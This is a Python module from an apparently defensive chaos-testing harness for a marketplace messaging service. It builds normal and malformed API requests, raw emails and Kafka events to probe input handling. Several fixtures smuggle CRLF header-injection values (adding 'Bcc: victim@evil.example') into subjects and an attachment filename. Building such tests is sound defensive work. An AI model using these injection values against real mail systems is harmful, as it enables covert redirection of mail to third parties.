"""What each operation sends: request bodies, mails and events (pure: no I/O, no clock)."""

from __future__ import annotations

import base64
import email.policy
import json
import uuid
from dataclasses import dataclass
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime

from bsm_shared.contract.limits import MAX_BODY_BYTES, MAX_MAIL_BYTES

from bsm_devstack.chaos.model import Op

_NS = uuid.UUID("6f1c8a0e-2b7d-4c59-9e3a-41d2c7b8a5f0")


@dataclass(frozen=True)
class Pair:
    index: int
    buyer: str
    seller: str
    order: str
    buyer_email: str
    seller_email: str


def pairs(run: str, count: int) -> list[Pair]:
    return [Pair(i, f"cb-{run}-{i}", f"cs-{run}-{i}", f"co-{run}-{i}",
                 f"buyer{i}.{run}@chaos-buyers.example", f"seller{i}.{run}@chaos-sellers.example")
            for i in range(count)]


def message_id(run: str, op: Op) -> str:
    """The id of a message the harness publishes itself (platform events)."""
    return str(uuid.uuid5(_NS, f"{run}:{op.n}"))


def event_id(run: str, op: Op, what: str = "") -> str:
    return str(uuid.uuid5(_NS, f"{run}:{op.n}:event:{what}"))


def platform_event(etype: str, data: dict, correlation_id: str, eid: str,
                   now: datetime) -> dict:
    """An event as another platform service publishes it: unsigned, producer ``platform``."""
    return {"event_id": eid, "type": etype, "version": 1, "occurred_at": now.isoformat(),
            "producer": "platform", "correlation_id": correlation_id, "causation_id": None,
            "data": data}


def registrations(run: str, pair: Pair, now: datetime) -> list[tuple[str, str, bytes]]:
    """(topic, key, value) of a pair's setup: both parties and one order."""
    def ev(etype: str, data: dict, cid: str, what: str) -> bytes:
        eid = str(uuid.uuid5(_NS, f"{run}:setup:{pair.index}:{what}"))
        return json.dumps(platform_event(etype, data, cid, eid, now)).encode()

    return [
        ("bsm.parties", pair.buyer, ev("PartyRegistered", {
            "party_id": pair.buyer, "role": "buyer", "email": pair.buyer_email,
            "display_name": f"Comprador {pair.index}", "locale": "es-ES", "marketplace": "ES"},
            pair.buyer, "buyer")),
        ("bsm.parties", pair.seller, ev("PartyRegistered", {
            "party_id": pair.seller, "role": "seller", "email": pair.seller_email,
            "display_name": f"Tienda {pair.index}", "locale": "es-ES", "marketplace": "ES"},
            pair.seller, "seller")),
        ("bsm.orders", pair.order, ev("OrderPlaced", {
            "order_id": pair.order, "buyer_id": pair.buyer, "seller_id": pair.seller,
            "placed_at": now.isoformat(), "items": [{"sku": "silla", "category": "furniture"}],
            "fulfilment": "merchant"}, pair.order, "order")),
    ]


# --------------------------------------------------------------------------------------------
# the gateway
# --------------------------------------------------------------------------------------------


def api_request(op: Op, pair: Pair) -> tuple[str, str, str, dict | bytes | None]:
    """(method, path, sender party id, JSON body or raw bytes) for an API operation."""
    t = op.token
    base = {"recipient_party_id": pair.seller, "order_id": pair.order}
    text = f"Hola, ¿cuándo llega mi pedido? Referencia {t}."
    if op.kind in ("first", "message"):
        return "POST", "/v1/messages", pair.buyer, {**base, "subject": f"Pedido {t}", "text": text}
    if op.kind == "seller_message":
        return "POST", "/v1/messages", pair.seller, {
            "recipient_party_id": pair.buyer, "order_id": pair.order,
            "contact_reason": "confirm_order_details", "subject": f"Su pedido {t}",
            "text": f"Buenos días, confirmamos los detalles de su pedido. Referencia {t}."}
    if op.kind == "api_nul_text":
        return "POST", "/v1/messages", pair.buyer, {**base, "subject": f"Nul {t}",
                                                    "text": f"antes\x00después {t}"}
    if op.kind == "api_nul_html":
        return "POST", "/v1/messages", pair.buyer, {**base, "subject": f"Nul {t}", "text": text,
                                                    "html": f"<p>hola\x00{t}</p>"}
    if op.kind == "api_nul_subject":
        return "POST", "/v1/messages", pair.buyer, {**base, "subject": f"Nul\x00{t}",
                                                    "text": text}
    if op.kind == "api_crlf_subject":
        return "POST", "/v1/messages", pair.buyer, {
            **base, "subject": f"Hola {t}\r\nBcc: victim@evil.example\r\n", "text": text}
    if op.kind == "api_oversized_body":
        return "POST", "/v1/messages", pair.buyer, {
            **base, "subject": f"Grande {t}", "text": f"{t} " + "a" * (MAX_BODY_BYTES + 1)}
    if op.kind == "api_invalid_json":
        return "POST", "/v1/messages", pair.buyer, ('{"subject": "' + t + '", "text": ').encode()
    if op.kind == "api_nul_path":
        return "GET", f"/v1/messages/%00{t}", pair.buyer, None
    raise ValueError(f"not an API operation: {op.kind}")


# --------------------------------------------------------------------------------------------
# the mail door
# --------------------------------------------------------------------------------------------


def _b64_header(value: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(value.encode()).decode() + "?="


def mail(op: Op, pair: Pair, *, to_alias: str, now: datetime) -> tuple[str, bytes]:
    """(envelope sender, mail bytes) for a mail-door operation. Ordinary and most hostile mails
    go from the buyer's registered address to the seller's alias; ``seller_mail`` the other
    way."""
    t = op.token
    sender = pair.seller_email if op.kind == "seller_mail" else pair.buyer_email
    head = (f"From: {sender}\r\nTo: {to_alias}\r\nDate: {format_datetime(now)}\r\n"
            f"Message-ID: <{t}@{sender.rpartition('@')[2]}>\r\nMIME-Version: 1.0\r\n")
    if op.kind in ("message", "seller_mail"):
        m = EmailMessage()
        m["From"], m["To"], m["Subject"] = sender, to_alias, f"Correo {t}"
        m["Date"] = format_datetime(now)
        m["Message-ID"] = f"<{t}@{sender.rpartition('@')[2]}>"
        m.set_content(f"Hola, escribo por correo sobre mi pedido. Referencia {t}.\n")
        return sender, m.as_bytes(policy=email.policy.SMTP)
    if op.kind == "smtp_nul_body":
        return sender, (head + f"Subject: Nul {t}\r\nContent-Type: text/plain; charset=utf-8\r\n"
                        "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
                        f"antes=00despu=C3=A9s {t}\r\n").encode()
    if op.kind == "smtp_crlf_filename":
        name = _b64_header(f"factura\r\nBcc: victim@evil.example\r\n{t}.txt")
        return sender, (head + f"Subject: Adjunto {t}\r\n"
                        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
                        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                        f"Le envío la factura. {t}\r\n"
                        f'--b1\r\nContent-Type: text/plain; name="{name}"\r\n'
                        f'Content-Disposition: attachment; filename="{name}"\r\n\r\n'
                        f"total 10 EUR {t}\r\n--b1--\r\n").encode()
    if op.kind == "smtp_crlf_subject":
        subject = _b64_header(f"Hola {t}\r\nBcc: victim@evil.example")
        return sender, (head + f"Subject: {subject}\r\nContent-Type: text/plain; charset=utf-8\r\n"
                        f"\r\nHola {t}\r\n").encode()
    if op.kind == "smtp_malformed_mime":
        return sender, (head + f"Subject: Roto {t}\r\n"
                        'Content-Type: multipart/mixed; boundary="never-closed"\r\n\r\n'
                        "--never-closed\r\nContent-Type: text/plain\r\n\r\n"
                        f"Texto {t}\r\n--never-closed\r\nContent-Type: application/pdf\r\n"
                        "Content-Transfer-Encoding: base64\r\n"
                        'Content-Disposition: attachment; filename="x.pdf"\r\n\r\n'
                        "JVBERi0xLjQK!!!not*base64===\r\n").encode()
    if op.kind == "smtp_body_too_large":
        line = ("lorem ipsum dolor sit amet " * 3).strip() + "\r\n"
        body = line * (MAX_BODY_BYTES * 3 // 2 // len(line) + 1)
        return sender, (head + f"Subject: Largo {t}\r\nContent-Type: text/plain; charset=utf-8\r\n"
                        f"\r\n{t}\r\n{body}").encode()
    if op.kind == "smtp_oversized":
        chunk = base64.encodebytes(b"\x00" * 57 * 1000).decode().replace("\n", "\r\n")
        copies = MAX_MAIL_BYTES // len(chunk) + 2
        return sender, (head + f"Subject: Enorme {t}\r\n"
                        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
                        f"--b1\r\nContent-Type: text/plain\r\n\r\n{t}\r\n"
                        "--b1\r\nContent-Type: application/octet-stream\r\n"
                        "Content-Transfer-Encoding: base64\r\n\r\n"
                        + chunk * copies + "--b1--\r\n").encode()
    raise ValueError(f"not a mail-door operation: {op.kind}")


# --------------------------------------------------------------------------------------------
# the input topics
# --------------------------------------------------------------------------------------------


def kafka_record(run: str, op: Op, pair: Pair, now: datetime,
                 status: str = "shipped") -> tuple[str, str, bytes, str | None]:
    """(topic, key, value, message id) for an operation on an input topic."""
    t = op.token
    mid = message_id(run, op)

    def submitted(**over: object) -> dict:
        data = {"message_id": mid, "channel": "api", "sender": {"party_id": pair.buyer},
                "recipient": {"party_id": pair.seller}, "order_id": pair.order,
                "subject": f"Plataforma {t}",
                "text": f"Mensaje de la plataforma sobre el pedido. Referencia {t}.",
                "submitted_at": now.isoformat()}
        data.update(over)
        return platform_event("MessageSubmitted", {k: v for k, v in data.items() if v is not None},
                              mid, event_id(run, op), now)

    def dump(event: dict) -> bytes:
        return json.dumps(event).encode()

    if op.kind == "message":
        return "bsm.messages.submitted", mid, dump(submitted()), mid
    if op.kind == "order_status":
        return "bsm.orders", pair.order, dump(platform_event("OrderStatusChanged", {
            "order_id": pair.order, "status": status, "changed_at": now.isoformat()},
            pair.order, event_id(run, op), now)), None
    if op.kind == "order_placed":
        order = f"{pair.order}-{op.n}"
        return "bsm.orders", order, dump(platform_event("OrderPlaced", {
            "order_id": order, "buyer_id": pair.buyer, "seller_id": pair.seller,
            "placed_at": now.isoformat(), "items": [{"sku": "mesa"}], "fulfilment": "merchant"},
            order, event_id(run, op), now)), None
    if op.kind == "kafka_invalid_json":
        topic = ("bsm.parties", "bsm.orders", "bsm.messages.submitted")[op.n % 3]
        return topic, t, ('{"event_id": "' + event_id(run, op) + '", "type": "' + t).encode(), None
    if op.kind == "kafka_unknown_type":
        return "bsm.parties", pair.buyer, dump(platform_event(
            "PartyTeleported", {"party_id": pair.buyer, "to": t}, pair.buyer,
            event_id(run, op), now)), None
    if op.kind == "kafka_nul_text":
        return "bsm.messages.submitted", mid, dump(submitted(text=f"antes\x00después {t}")), mid
    if op.kind == "kafka_missing_sender":
        event = submitted()
        del event["data"]["sender"]
        return "bsm.messages.submitted", mid, dump(event), mid
    if op.kind == "kafka_oversized_body":
        return "bsm.messages.submitted", mid, dump(submitted(
            text=f"{t} " + "b" * (MAX_BODY_BYTES + 1000))), mid
    raise ValueError(f"not an input-topic operation: {op.kind}")
